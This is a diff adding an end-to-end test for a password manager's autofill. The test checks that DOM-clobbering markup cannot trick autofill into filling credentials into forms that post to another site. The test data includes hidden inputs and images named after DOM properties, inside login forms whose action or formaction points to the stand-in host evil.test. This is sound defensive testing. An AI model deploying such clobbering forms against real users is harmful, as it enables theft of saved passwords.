@@ -303,3 +303,37 @@ test('no menu at a form that sends to another site or asks for a new password', 
   }
   expect(await listDirect(signedIn)).toHaveLength(0);
 });
+
+test('names in the markup hide neither where a form sends to nor an honest form', async ({
+  browser_,
+  signedIn,
+  site,
+}) => {
+  await storeLogin(signedIn, site);
+  const page = await visit(browser_, site.toUrl('shop.test'));
+  const popup = await browser_.openPopup(page);
+  const fill = popup.getByRole('button', { name: 'Fill sam@example.com' });
+  const names = ['baseURI', 'ownerDocument', 'elements', 'getAttribute', 'action', 'id', 'children', 'parentElement'];
+  const hidden = (name: string) => `<input type="hidden" name="${name}">`;
+  const fields = '<label>E-mail <input name=u type=email></label><label>Password <input name=p type=password></label>';
+  const leaving = [hidden('baseURI'), hidden('ownerDocument'), names.map(hidden).join('')].flatMap((clobbering) => [
+    `<form action="http://evil.test/" method=post>${clobbering}${fields}<button>Sign in</button></form>`,
+    `<form action="/login">${clobbering}${fields}<button formaction="http://evil.test/">Sign in</button></form>`,
+  ]);
+  const images = ['baseURI', 'querySelectorAll', 'documentElement', 'elementsFromPoint', 'activeElement'];
+  const around = images.map((name) => `<img name="${name}" alt="">`).join('');
+  for (const html of [...leaving, ...leaving.slice(-2).map((form) => around + form)]) {
+    await page.evaluate((markup) => document.querySelector('body')?.setHTMLUnsafe(markup), html);
+    await fill.click();
+    await expect(fill, html).toBeEnabled();
+    await expect(popup.getByRole('status').filter({ hasText: 'another site' }), html).toBeVisible();
+    expect(await page.locator('[name=p]').inputValue(), html).toBe('');
+  }
+  expect(await listDirect(signedIn)).toHaveLength(0);
+
+  const honest = `${around}<form action="/login">${names.map(hidden).join('')}${fields}<button>Sign in</button></form>`;
+  await page.evaluate((markup) => document.querySelector('body')?.setHTMLUnsafe(markup), honest);
+  await fill.click();
+  await expect(page.locator('[name=p]')).toHaveValue(secret);
+  expect(await listDirect(signedIn)).toHaveLength(1);
+});
